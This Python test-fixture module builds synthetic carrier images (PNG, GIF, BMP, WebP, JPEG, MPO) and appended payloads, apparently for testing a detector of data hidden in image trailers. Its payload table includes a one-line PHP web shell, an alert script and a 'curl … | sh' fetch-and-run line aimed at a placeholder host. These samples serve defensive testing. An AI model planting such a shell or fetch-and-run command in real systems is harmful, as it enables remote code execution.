"""Builds carrier images, payloads and benign trailers at test time, in pure stdlib.

The JPEGs are marker streams with synthetic entropy data: it carries the structures a walker
must get right (FF00 stuffing, RSTn, FF fill bytes, many scans, an EXIF thumbnail with its own
EOI, MPF-indexed images) even though no decoder would draw anything sensible from it.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import random
import struct
import zipfile
import zlib
from typing import Callable, Dict, List, Sequence, Tuple

XMP_SIG = b"http://ns.adobe.com/xap/1.0/\x00"


def _rng(seed: int) -> random.Random:
    return random.Random(seed)


# --- PNG -------------------------------------------------------------------------------------
def png_chunk(ctype: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + ctype + data + struct.pack(">I", zlib.crc32(ctype + data))


def png(width: int = 8, height: int = 6, text: bool = False) -> bytes:
    raw = b"".join(b"\x00" + _rng(height).randbytes(width * 3) for _ in range(height))
    chunks = [png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))]
    if text:
        chunks.append(png_chunk(b"tEXt", b"Comment\x00made by the detector tests"))
    chunks.append(png_chunk(b"IDAT", zlib.compress(raw)))
    chunks.append(png_chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


# --- GIF -------------------------------------------------------------------------------------
def gif_subblocks(data: bytes) -> bytes:
    return b"".join(bytes([len(data[i : i + 255])]) + data[i : i + 255] for i in range(0, len(data), 255)) + b"\x00"


def gif(frames: int = 1, trailer: bool = True) -> bytes:
    rng = _rng(frames)
    out = [b"GIF89a", struct.pack("<HHBBB", 16, 16, 0xF1, 0, 0), rng.randbytes(12)]
    if frames > 1:
        out.append(b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00")
    out.append(b"\x21\xfe" + gif_subblocks(b"made by the detector tests"))
    for i in range(frames):
        out.append(b"\x21\xf9\x04\x04\x0a\x00\x00\x00")
        out.append(b"\x2c" + struct.pack("<HHHHB", 0, 0, 16, 16, 0))
        # More than three full 255-byte sub-blocks, then a short one.
        out.append(b"\x02" + gif_subblocks(rng.randbytes(900 + 37 * i)))
    if trailer:
        out.append(b"\x3b")
    return b"".join(out)


# --- BMP -------------------------------------------------------------------------------------
def bmp(width: int = 7, height: int = 5, bpp: int = 24, profile: bytes = b"") -> bytes:
    stride = ((bpp * width + 31) // 32) * 4
    pixels = _rng(width).randbytes(stride * height)
    if profile:
        # BITMAPV5HEADER with an embedded ICC profile stored after the pixels.
        info = struct.pack("<IiiHHIIiiII", 124, width, height, 1, bpp, 0, len(pixels), 2835, 2835, 0, 0)
        info += b"\x00" * 16 + struct.pack("<I", 0x4D424544) + b"\x00" * 48
        info += struct.pack("<IIII", 4, 124 + len(pixels), len(profile), 0)
    else:
        info = struct.pack("<IiiHHIIiiII", 40, width, -height, 1, bpp, 0, 0, 2835, 2835, 0, 0)
    off_bits = 14 + len(info)
    body = info + pixels + profile
    return b"BM" + struct.pack("<IHHI", 14 + len(body), 0, 0, off_bits) + body


# --- WebP ------------------------------------------------------------------------------------
def webp(with_exif: bool = False) -> bytes:
    def chunk(fourcc: bytes, data: bytes) -> bytes:
        return fourcc + struct.pack("<I", len(data)) + data + (b"\x00" if len(data) & 1 else b"")

    body = chunk(b"VP8L", b"\x2f" + _rng(3).randbytes(24))  # odd size: exercises the pad byte
    if with_exif:
        body = chunk(b"VP8X", b"\x08" + b"\x00" * 9) + body + chunk(b"EXIF", b"II*\x00\x08\x00\x00\x00\x00\x00")
    return b"RIFF" + struct.pack("<I", 4 + len(body)) + b"WEBP" + body


# --- JPEG ------------------------------------------------------------------------------------
def segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def entropy(seed: int, size: int, restart_every: int = 0) -> bytes:
    """Scan data: random bytes, FF stuffed as FF00, literal FF D9 pairs, optional RSTn markers."""
    raw = _rng(seed).randbytes(size)
    raw = raw[: size // 2] + b"\xff\xd9\xff\xd8" + raw[size // 2 :]
    if not restart_every:
        return raw.replace(b"\xff", b"\xff\x00")
    parts = [raw[i : i + restart_every].replace(b"\xff", b"\xff\x00") for i in range(0, len(raw), restart_every)]
    return b"".join(p + (bytes([0xFF, 0xD0 + i % 8]) if i < len(parts) - 1 else b"") for i, p in enumerate(parts))


_DQT = segment(0xDB, b"\x00" + bytes(range(1, 65)))
_DHT = segment(0xC4, b"\x00" + bytes([0, 1, 5, 1, 1, 1, 1, 1, 1] + [0] * 7) + bytes(range(12)))


def _sof(marker: int) -> bytes:
    return segment(marker, struct.pack(">BHHB", 8, 16, 16, 3) + b"\x01\x22\x00\x02\x11\x00\x03\x11\x00")


def _sos(ss: int = 0, se: int = 63) -> bytes:
    return segment(0xDA, b"\x03\x01\x00\x02\x11\x03\x11" + bytes([ss, se, 0]))


def exif_with_thumbnail(thumb: bytes) -> bytes:
    """APP1 Exif: IFD0 -> IFD1 pointing at an embedded thumbnail JPEG (with its own FFD9)."""
    ifd0 = struct.pack("<H", 1) + struct.pack("<HHII", 0x0112, 3, 1, 1) + struct.pack("<I", 26)
    ifd1_at = 8 + len(ifd0)
    thumb_at = ifd1_at + 2 + 2 * 12 + 4
    ifd1 = struct.pack("<H", 2) + struct.pack("<HHII", 0x0201, 4, 1, thumb_at)
    ifd1 += struct.pack("<HHII", 0x0202, 4, 1, len(thumb)) + struct.pack("<I", 0)
    return segment(0xE1, b"Exif\x00\x00" + b"II*\x00" + struct.pack("<I", 8) + ifd0 + ifd1 + thumb)


def jpeg(
    seed: int = 1,
    size: int = 3000,
    progressive: bool = False,
    restart_every: int = 0,
    thumbnail: bool = False,
    xmp: bytes = b"",
    app2: bytes = b"",
) -> bytes:
    out = [b"\xff\xd8", segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")]
    if thumbnail:
        out.append(exif_with_thumbnail(jpeg(seed + 100, 400)))
    if xmp:
        out.append(segment(0xE1, XMP_SIG + xmp))
    if app2:
        out.append(app2)
    out += [_DQT, _sof(0xC2 if progressive else 0xC0), _DHT]
    if restart_every:
        out.append(segment(0xDD, struct.pack(">H", 4)))
    scans = 6 if progressive else 1
    for i in range(scans):
        if i:
            out.append(b"\xff\xff" + _DHT)  # fill bytes before a marker are legal
        out.append(_sos(0 if not progressive else 1 + i, 63))
        out.append(entropy(seed * 10 + i, size // scans, restart_every))
    out.append(b"\xff\xff\xd9")
    return b"".join(out)


def _mpf(entries: Sequence[Tuple[int, int, int]]) -> bytes:
    """APP2 MPF with an MP Index IFD; entries are (attribute, size, offset-from-TIFF-header)."""
    count = len(entries)
    ifd = struct.pack(">H", 3)
    ifd += struct.pack(">HHI4s", 0xB000, 7, 4, b"0100")
    ifd += struct.pack(">HHII", 0xB001, 4, 1, count)
    ifd += struct.pack(">HHII", 0xB002, 7, 16 * count, 8 + 2 + 3 * 12 + 4)
    ifd += struct.pack(">I", 0)
    table = b"".join(struct.pack(">IIIHH", a, s, o, 0, 0) for a, s, o in entries)
    return segment(0xE2, b"MPF\x00" + b"MM\x00\x2a" + struct.pack(">I", 8) + ifd + table)


def mpo(extra: Sequence[bytes], attribute: int = 0x020002) -> bytes:
    """A primary JPEG whose MPF index declares `extra` images appended after it."""
    def build(entries: List[Tuple[int, int, int]]) -> bytes:
        return jpeg(7, 2400, app2=_mpf(entries))

    dummy = [(0x20030000, 0, 0)] + [(attribute, 0, 0)] * len(extra)
    primary = build(dummy)
    tiff = primary.find(b"MPF\x00") + 4
    entries = [(0x20030000, len(primary), 0)]
    pos = len(primary)
    for image in extra:
        entries.append((attribute, len(image), pos - tiff))
        pos += len(image)
    primary = build(entries)
    assert len(primary) == entries[0][1]
    return primary + b"".join(extra)


CARRIERS: Dict[str, Callable[[], bytes]] = {
    "png": png,
    "png-text-chunk": lambda: png(text=True),
    "jpeg-baseline": jpeg,
    "jpeg-camera-exif-thumbnail": lambda: jpeg(thumbnail=True),
    "jpeg-progressive": lambda: jpeg(progressive=True),
    "jpeg-restart-intervals": lambda: jpeg(restart_every=64),
    "jpeg-mpo-gain-map": lambda: mpo([jpeg(9, 900)], attribute=0x050000),
    "gif": gif,
    "gif-animated": lambda: gif(frames=4),
    "bmp": bmp,
    "bmp-color-profile": lambda: bmp(profile=b"ICCPROFILE" * 30),
    "webp": webp,
    "webp-extended": lambda: webp(with_exif=True),
}


# --- payloads --------------------------------------------------------------------------------
def ts_stream(packet: int = 188, count: int = 24, junk: bytes = b"") -> bytes:
    rng = _rng(packet)
    packets = []
    for i in range(count):
        body = b"\x47" + struct.pack(">HB", 0x0100 if i else 0x0000, 0x10 | (i & 15)) + rng.randbytes(184)
        if packet == 192:
            body = struct.pack(">I", i * 1800) + body
        elif packet == 204:
            body += rng.randbytes(16)
        packets.append(body)
    return junk + b"".join(packets)


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("secret.txt", "hidden " * 200)
    return out.getvalue()


def _pe() -> bytes:
    dos = bytearray(b"MZ" + b"\x00" * 0x7E)
    struct.pack_into("<I", dos, 0x3C, 0x80)
    return bytes(dos) + b"PE\x00\x00" + b"\x4c\x01" + _rng(5).randbytes(400)


def _mp4() -> bytes:
    ftyp = struct.pack(">I4s4sI4s4s", 24, b"ftyp", b"isom", 0x200, b"isom", b"mp41")
    mdat = _rng(6).randbytes(3000)
    return ftyp + struct.pack(">I4s", 8 + len(mdat), b"mdat") + mdat


def _blob(magic: bytes, seed: int, size: int = 1500) -> bytes:
    return magic + _rng(seed).randbytes(size)


PAYLOADS: Dict[str, Tuple[Callable[[], bytes], str]] = {
    "ts-188": (ts_stream, "MPEG-TS"),
    "m2ts-192": (lambda: ts_stream(192), "MPEG-TS"),
    "ts-204": (lambda: ts_stream(204), "MPEG-TS"),
    "ts-after-3-junk-bytes": (lambda: ts_stream(junk=b"\x0d\x0a\x01"), "MPEG-TS"),
    "ts-few-packets": (lambda: ts_stream(count=3), "MPEG-TS"),
    "zip": (_zip, "ZIP"),
    "rar5": (lambda: _blob(b"Rar!\x1a\x07\x01\x00", 11), "RAR"),
    "7z": (lambda: _blob(b"7z\xbc\xaf\x27\x1c\x00\x04", 12), "7Z"),
    "gzip": (lambda: gzip.compress(b"payload " * 300), "GZIP"),
    "bzip2": (lambda: bz2.compress(b"payload " * 300), "BZIP2"),
    "xz": (lambda: lzma.compress(b"payload " * 300), "XZ"),
    "zstd": (lambda: _blob(b"\x28\xb5\x2f\xfd", 13), "ZSTD"),
    "pe": (_pe, "PE"),
    "elf": (lambda: _blob(b"\x7fELF\x02\x01\x01\x00", 14), "ELF"),
    "mach-o": (lambda: _blob(b"\xcf\xfa\xed\xfe\x07\x00\x00\x01", 15), "MACH-O"),
    "pdf": (lambda: b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n%%EOF\n", "PDF"),
    "mp4": (_mp4, "MP4"),
    "mkv": (lambda: _blob(b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01", 16), "MKV"),
    "flv": (lambda: _blob(b"FLV\x01\x05\x00\x00\x00\x09", 17), "FLV"),
    "mpeg-ps": (lambda: _blob(b"\x00\x00\x01\xba\x44\x00\x04\x00\x04\x01", 18), "MPEG-PS"),
    "hls-playlist": (lambda: b"#EXTM3U\n#EXT-X-VERSION:3\n#EXTINF:10.0,\nseg0.png\n#EXT-X-ENDLIST\n", "HLS"),
    "php-webshell": (lambda: b'<?php system($_GET["c"]); ?>', "PHP"),
    "html-script": (lambda: b"<html><body><script>alert(1)</script></body></html>", "HTML"),
    "shell-script": (lambda: b"#!/bin/sh\ncurl http://example.invalid/x | sh\n", "SCRIPT"),
    "text": (lambda: b"The quick brown fox jumps over the lazy dog.\n" * 10, "TEXT"),
    "random-unknown": (lambda: _rng(19).randbytes(4096), "UNKNOWN"),
}


# --- benign trailers -------------------------------------------------------------------------
def afcp(start: int) -> bytes:
    body = b"AXS!" + b"\x00\x01" + _rng(20).randbytes(40)
    return body + b"AXS!" + struct.pack(">I", start) + b"\x00\x00\x00\x00"


def fotostation() -> bytes:
    data = b"\x1c\x02\x78\x00\x05hello"
    return data + struct.pack(">HII", 1, len(data) + 10, 0xA1B2C3D4)


def photomechanic() -> bytes:
    data = b"\x1c\x02\xdd\x00\x04abcd" + b"\x00" * 100
    return data + struct.pack(">I", len(data)) + b"cbipcbbl"


def canon_vrd() -> bytes:
    tag = b"CANON OPTIONAL DATA\x00"
    data = struct.pack(">II", 0xFFFF00F4, 8) + b"\x00" * 8
    header = tag + b"\x00" * (0x1C - len(tag))
    footer = tag + struct.pack(">I", len(data))
    return header + data + footer + b"\x00" * (64 - len(footer))


def samsung_seft(video: bytes) -> bytes:
    """Samsung trailer: one MotionPhoto_Data entry, the SEFH directory, then the SEFT footer."""
    name = b"MotionPhoto_Data"
    entry = struct.pack("<HHI", 0, 0x0A30, len(name)) + name + video
    sefh = b"SEFH" + struct.pack("<II", 107, 1) + struct.pack("<HHII", 0, 0x0A30, len(entry), len(entry))
    return entry + sefh + struct.pack("<I", len(sefh)) + b"SEFT"


def motion_photo_xmp(video_len: int) -> bytes:
    return (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        b'<rdf:Description GCamera:MotionPhoto="1" GCamera:MotionPhotoVersion="1">'
        b"<Container:Directory><rdf:Seq>"
        b'<rdf:li rdf:parseType="Resource"><Container:Item Item:Mime="image/jpeg" Item:Semantic="Primary"'
        b' Item:Length="0" Item:Padding="0"/></rdf:li>'
        b'<rdf:li rdf:parseType="Resource"><Container:Item Item:Mime="video/mp4" Item:Semantic="MotionPhoto"'
        b' Item:Length="' + str(video_len).encode() + b'"/></rdf:li>'
        b"</rdf:Seq></Container:Directory></rdf:Description></rdf:RDF></x:xmpmeta>"
    )


def micro_video_xmp(offset: int) -> bytes:
    return (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><rdf:Description GCamera:MicroVideo="1"'
        b' GCamera:MicroVideoVersion="1" GCamera:MicroVideoOffset="' + str(offset).encode() + b'"/>'
        b"</rdf:RDF></x:xmpmeta>"
    )


def mp4_video() -> bytes:
    return _mp4()
